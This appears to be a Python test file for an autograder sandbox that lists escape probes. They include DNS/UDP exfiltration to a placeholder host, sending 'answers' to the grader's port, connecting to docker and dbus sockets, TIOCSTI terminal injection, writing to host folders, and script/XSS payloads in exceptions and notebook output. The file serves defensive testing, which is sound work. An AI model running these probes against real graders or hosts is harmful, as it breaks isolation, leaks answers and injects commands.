"""Getting anything out, or anywhere: networks, sockets of any family, terminals, the host's folders."""

from tests.hostile.attack import Attack

SAMPLE = [
    Attack("dns_exfil", """
import socket
try: print('BREACH', socket.gethostbyname('x.example.invalid'))
except OSError as error: print(type(error).__name__)
try:
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.settimeout(0.2)
    print('BREACH', made.sendto(b'q', ('127.0.0.1', 53)), made.recv(1))
except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("vsock_abstract_escape", """
import socket
for family in (40, 38, 17, 16, 44, 31, 3, 10**3):  # VSOCK, ALG, PACKET, NETLINK, XDP, BLUETOOTH, AX25, none
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            socket.socket(family, kind)
            if family in (40, 38, 17, 44, 31): print('BREACH', family, kind)
        except OSError as error: pass
$WRONG
"""),
]

OWN = [
    Attack("tcp_to_the_graders_machine", """
import socket
for where in ('127.0.0.1', '0.0.0.0', 'localhost', '::1'):
    try: socket.create_connection((where, $PORT), timeout=0.2).send(b'answers'); print('BREACH', where)
    except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("udp_to_the_graders_machine", """
import socket
for where in ('127.0.0.1', '255.255.255.255'):
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'answers', (where, $PORT))
    except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("abstract_socket", """
import socket
try:
    socket.socket(socket.AF_UNIX).connect('\\0$ABSTRACT')
    print('BREACH')
except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("sockets_of_services", """
import glob, socket
for place in ('/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', '$OUTSIDE/socket',
              '/dev/log', *glob.glob('/tmp/**/*sock*', recursive=True)):
    try: socket.socket(socket.AF_UNIX).connect(place); print('BREACH', place)
    except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("raw_socket", """
import socket
for family in (socket.AF_INET, socket.AF_INET6, socket.AF_PACKET):
    try: socket.socket(family, socket.SOCK_RAW, 1); print('BREACH', family)
    except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("terminal_of_the_instructor", """
import glob, os, fcntl
for place in ['/dev/tty', '/dev/console', '/dev/ptmx', '/proc/1/fd/1', '/proc/self/fd/0', '/proc/self/fd/2', *glob.glob('/dev/pts/*'), *glob.glob('/dev/tty*')]:
    try:
        opened = os.open(place, os.O_RDWR | os.O_NOCTTY)
        if os.isatty(opened): print('BREACH', place)
    except OSError as error: pass
for number in (0, 1, 2):
    os.write(number, b'\\x1b]0;BREACH of a title\\x07') if number else None
    try: fcntl.ioctl(number, 0x5412, b'x'); print('BREACH', number)  # TIOCSTI
    except OSError: pass
$WRONG
"""),
    Attack("files_on_the_host", """
from pathlib import Path
for place in ('$OUTSIDE', '$COURSE', '$COURSE/submitted', '/var/tmp', '/etc', '/', '/opt', '/srv', '/run'):
    try: (Path(place) / 'leaked').write_text('x'); print('BREACH', place)
    except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("own_network_namespace_and_tunnel", """
import os
for place in ('/dev/net/tun', '/dev/vhost-vsock', '/dev/fuse', '/dev/kvm', '/dev/uinput', '/dev/kmsg'):
    try: os.open(place, os.O_RDWR); print('BREACH', place)
    except OSError as error: print(type(error).__name__)
$WRONG
"""),
    Attack("escapes_for_the_terminal", answer="raise ValueError('\\x1b[2J\\x1b]0;owned\\x07 <evil> [red] \\u202e \\x00')",
           kinds=("error", "mistake")),
    Attack("markup_in_an_exception", "Markup = type('<evil onload=alert(1)>', (Exception,), {})",
           answer="raise Markup('<evil></p><script>alert(1)</script>{{ 7 * 7 }}')", kinds=("error", "mistake")),
    Attack("markup_in_every_output", """
from IPython.display import HTML, SVG, Javascript, Markdown, display, Image
class Every:
    def _repr_mimebundle_(self, **more):
        return {kind: '<evil>alert(1)</evil>' for kind in ('text/html', 'application/javascript', 'image/svg+xml', 'text/latex',
                'application/vnd.jupyter.widget-view+json', 'image/png', 'image/jpeg', 'text/markdown', 'application/x-evil')}
display(HTML('<evil>'), Javascript('alert(1)'), Markdown('<evil>'), Every())
display({'text/html': '<evil>', 'image/png': 'bm90IGEgcG5n'}, raw=True)
$WRONG
"""),
]
